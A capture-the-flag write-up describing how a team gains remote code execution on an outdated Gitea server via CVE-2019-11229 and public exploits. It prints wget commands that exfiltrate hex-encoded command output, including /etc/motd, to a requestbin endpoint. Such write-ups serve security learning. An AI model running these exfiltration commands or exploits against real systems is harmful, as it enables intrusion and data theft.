Tea time

Pentest, 20 points


We lost access to our versioning server, the attacker removed our ssh keys. Please get it back and connect to the server using SSH to get the flag.

by Masterfox


This challenge was only reachable within a specific network. We could access Tea time only through a machine we compromised from a previous challenge, only with a command-line interface then, at first. After a few minutes, to be more comfortable, we designed some iptables rules according to https://www.ired.team/offensive-security/red-team-infrastructure/redirectors-forwarders, to access from our browsers, the challenge.

First, we identify the version of Gitea with its commit: we can notice Gitea Version: 73ce024 on the footer's page. We find Gitea's version then which is 1.8.0 RC2 with this commit https://github.com/go-gitea/gitea/commit/73ce02400cec659bd7a7ee3798ff73a4c7c85957. We notice that this version was released on 27th March 2019, which is quite old. There is probably some exploits that we can use!

We first looked at one from Podalirius (https://www.exploit-db.com/exploits/49571) presented in his article https://podalirius.net/en/articles/exploiting-cve-2020-14144-gitea-authenticated-remote-code-execution/. After some tries, we realized that we couldn't use this exploit as our Gitea's configuration didn't enable Git hooks by users.

Back to square one, we are searching for another exploit. Thanks to https://www.cvedetails.com/ we found the CVE-2019-11229 which enables code execution, this is interesting.

Thanks to https://www.exploit-db.com/exploits/49383,https://medium.com/@knownsec404team/analysis-of-cve-2019-11229-from-git-config-to-rce-32c217727baa and some manual crafting, notably to modify the exploit as the originally designed server was not working fine, we had a RCE on the Tea time machine. Though, we had to design a specific exfiltration technique toretrieve some information from our executed commands. To list files and directories, we could do for instance the following command:

wget http://requestbin.net/r/xxx?x=$(ls | xxd -p | tr -d '\\n')

Okay, we have RCE, now focus back on the challenge and on what we are looking for. We thought thatthe flag was prompted when logging in through SSH in the SSH banner. Then, after reading some documentation such as https://www.tecmint.com/protect-ssh-logins-with-ssh-motd-banner-messages/we dumped /etc/motd content:

wgethttp://requestbin.net/r/xxx?x=$(cat /etc/motd | xxd -p | tr -d '\\n')

Which contained the flagNORZH{k33p_upd4t1ng_3Veryd4y}results matching ""

    No results matching ""